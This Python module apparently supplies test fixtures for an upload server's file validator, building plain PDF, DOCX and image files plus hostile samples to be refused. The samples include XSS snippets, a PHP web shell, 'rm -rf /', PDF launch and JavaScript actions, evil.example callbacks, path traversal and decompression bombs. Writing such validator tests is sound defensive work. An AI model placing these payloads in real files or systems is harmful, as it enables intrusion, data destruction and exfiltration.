"""Files that nobody should be able to hand on through the server, and plain ones beside them."""

import io
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from typing import Any

from PIL import Image

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
RELATIONS = '<?xml version="1.0"?><Relationships>{}</Relationships>'
PLAIN_PARTS: Mapping[str, str] = {
    "[Content_Types].xml": TYPES.format(DOCX_TYPE),
    "_rels/.rels": RELATIONS.format(""),
    "word/document.xml": "<w:document>My work</w:document>",
    "word/_rels/document.xml.rels": RELATIONS.format(
        '<Relationship Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>'
    ),
}


def pdf(body: bytes = b"", *, version: bytes = b"1.7", end: bytes = b"\n") -> bytes:
    """Return a PDF file of one empty page. body: further objects."""
    return (
        b"%PDF-" + version + b"\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
        + body
        + b"\nxref\n0 4\ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n9\n%%EOF"
        + end
    )


def docx(parts: Mapping[str, str] = PLAIN_PARTS, **more: str) -> bytes:
    """Return a DOCX file with these parts. more: further ones, their names with __ for / and _dot_ for a dot."""
    return zipped({**parts, **{name.replace("__", "/").replace("_dot_", "."): text for name, text in more.items()}})


def zipped(parts: Mapping[str, str | bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in parts.items():
            made.writestr(name, text)
        made.comment = comment
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any) -> bytes:
    """Return a picture. kind: PNG, JPEG or WEBP."""
    out = io.BytesIO()
    Image.new(mode, size, 90 if mode in ("L", "P") else (90, 120, 150, 128)[: len(mode)]).save(out, kind, **options)
    return out.getvalue()


def with_place() -> bytes:
    """Return a JPEG file whose EXIF data name a place and a camera, and which has a comment."""
    exif = Image.Exif()
    exif[0x010F], exif[0x9286] = "SECRETCAMERA", "SECRETPLACE"
    return picture("JPEG", exif=exif, comment=b"SECRETCOMMENT")


def png_of(width: int, height: int) -> bytes:
    """Return a PNG file that says it has this size, and has no pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def object_stream(contents: bytes) -> bytes:
    packed = zlib.compress(contents)
    return (
        b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n" % len(packed)
        + packed
        + b"\nendstream endobj"
    )


def encrypted_zip() -> bytes:
    """Return a DOCX file whose parts claim to be encrypted."""
    made = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


SCRIPT = b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"
TEMPLATE = (
    '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
)
PLAIN: Mapping[str, bytes] = {
    "one.pdf": pdf(),
    "two.pdf": pdf(object_stream(b"1 0 <</Type/Font>>"), version=b"2.0", end=b"\r\n\r\n"),
    "three.docx": docx(),
    "four.png": picture("PNG", mode="RGBA"),
    "five.jpg": with_place(),
    "six.webp": picture("WEBP"),
    "seven.png": picture("PNG", mode="P"),
    "eight.jpeg": picture("JPEG", mode="L"),
}


def hostile() -> Iterator[tuple[str, bytes]]:
    """Yield (name, bytes) of files that have to be refused."""
    yield from _other_types()
    yield from _hostile_pdfs()
    yield from _hostile_packages()
    yield from _hostile_pictures()


def _other_types() -> Iterator[tuple[str, bytes]]:
    yield "empty-page.html", b"<!doctype html><script>alert(1)</script>"
    yield "page-as.pdf", b"<html><script>alert(1)</script></html>"
    yield "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "drawing-as.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>'
    yield "program.exe", b"MZ" + b"\0" * 500
    yield "program-as.pdf", b"\x7fELF" + b"\0" * 500
    yield "script.sh", b"#!/bin/sh\nrm -rf /\n"
    yield "php-as.jpg", b"<?php system($_GET['c']); ?>"
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
    yield "moving.gif", b"GIF89a" + b"\0" * 100
    yield "archive.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 100
    yield "archive.gz", b"\x1f\x8b\x08" + b"\0" * 100
    yield "text.txt", "Просто текст".encode()
    yield "shifted.pdf", b"\n\n" + pdf()
    yield "page-before.pdf", b"<html>" + pdf()


def _hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    yield "script.pdf", pdf(SCRIPT)
    yield "script-escaped.pdf", pdf(SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript"))
    yield "script-packed.pdf", pdf(object_stream(b"4 0 " + SCRIPT))
    yield "script-packed-escaped.pdf", pdf(object_stream(b"4 0 <</S/Java#53cript/JS(x)>>"))
    yield "launch.pdf", pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj")
    yield "attachment.pdf", pdf(b"4 0 obj<</Type/EmbeddedFile>>endobj")
    yield "attachments.pdf", pdf(b"4 0 obj<</Names<</EmbeddedFiles 5 0 R>>>>endobj")
    yield "form-with-xfa.pdf", pdf(b"4 0 obj<</AcroForm<</XFA 5 0 R>>>>endobj")
    yield "film.pdf", pdf(b"4 0 obj<</Subtype/RichMedia>>endobj")
    yield "locked.pdf", pdf(b"4 0 obj<</Encrypt 5 0 R>>endobj")
    yield "sends.pdf", pdf(b"4 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj")
    yield "bomb.pdf", pdf(object_stream(b"\0" * (60 * 1024 * 1024)))
    yield "page-inside.pdf", pdf().replace(b"\n1 0 obj", b"\n%<script>alert(1)</script>\n1 0 obj", 1)
    yield "zip-behind.pdf", pdf() + docx()
    yield "zip-inside.pdf", pdf(zipped({"evil.jar": b"x"}))
    yield "cut-off.pdf", pdf()[:100]
    yield "only-a-head.pdf", b"%PDF-1.7\n"
    yield "program-behind.pdf", pdf() + b"MZ" + b"\0" * 4000


def _hostile_packages() -> Iterator[tuple[str, bytes]]:
    macro = TYPES.format("application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macro.docm", docx(word__vbaProject_dot_bin="x")
    yield "macro-type.docx", docx({**PLAIN_PARTS, "[Content_Types].xml": macro})
    yield "control.docx", docx(word__activeX__activeX1_dot_bin="x")
    yield "object.docx", docx(word__embeddings__oleObject1_dot_bin="x")
    yield "program.docx", docx(word__run_dot_exe="MZ")
    yield "page.docx", docx(word__page_dot_html="<script>alert(1)</script>")
    yield "drawing.docx", docx(word__media__a_dot_svg="<svg onload='x'/>")
    yield "template.docx", docx(word___rels__settings_dot_xml_dot_rels=RELATIONS.format(TEMPLATE))
    yield "entities.docx", docx(word__styles_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
    yield "leads-out.docx", docx({**PLAIN_PARTS, "../../etc/passwd": "x"})
    yield "absolute.docx", docx({**PLAIN_PARTS, "/etc/passwd": "x"})
    yield "backslashes.docx", docx({**PLAIN_PARTS, "..\\..\\boot.ini": "x"})
    yield "twice.docx", docx({**PLAIN_PARTS, "Word/Document.xml": "<other/>"})
    yield "bomb.docx", docx({**PLAIN_PARTS, "word/big.xml": "0" * (60 * 1024 * 1024)})
    yield "many-parts.docx", docx({**PLAIN_PARTS, **{f"word/{number}.xml": "" for number in range(2100)}})
    yield "archive.zip", zipped({"a.txt": "a"})
    yield "table.xlsx", zipped({"[Content_Types].xml": TYPES.format("x"), "xl/workbook.xml": "<a/>"})
    yield "commented.docx", zipped(PLAIN_PARTS, comment=b"<script>alert(1)</script>")
    yield "locked.docx", encrypted_zip()
    yield "cut-off.docx", docx()[:-40]
    yield "script-before.docx", b"#!/bin/sh\nexit\n" + docx()
    yield "program-behind.docx", docx() + b"MZ" + b"\0" * 500
    yield "lies-about-size.docx", _lying()


def _hostile_pictures() -> Iterator[tuple[str, bytes]]:
    yield "bomb.png", png_of(60_000, 60_000)
    yield "large.png", png_of(9_000, 9_000)
    yield "cut-off.png", picture("PNG")[:60]
    yield "cut-off.jpg", picture("JPEG", (400, 300))[:200]
    yield "cut-off.webp", picture("WEBP")[:30]
    yield "page-behind-a-head.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"
    yield "page-behind-a-head.jpg", b"\xff\xd8\xff<script>alert(1)</script>"
    yield "page-behind-a-head.webp", b"RIFF\x10\0\0\0WEBP<script>"
    yield "negative.png", png_of(0, 0)


def _lying() -> bytes:
    """Return a DOCX file with a part that unfolds to more than the directory says."""
    big = 3 * 1024 * 1024
    made = docx({**PLAIN_PARTS, "word/big.xml": "0" * big})
    return made.replace(big.to_bytes(4, "little"), (100).to_bytes(4, "little"))
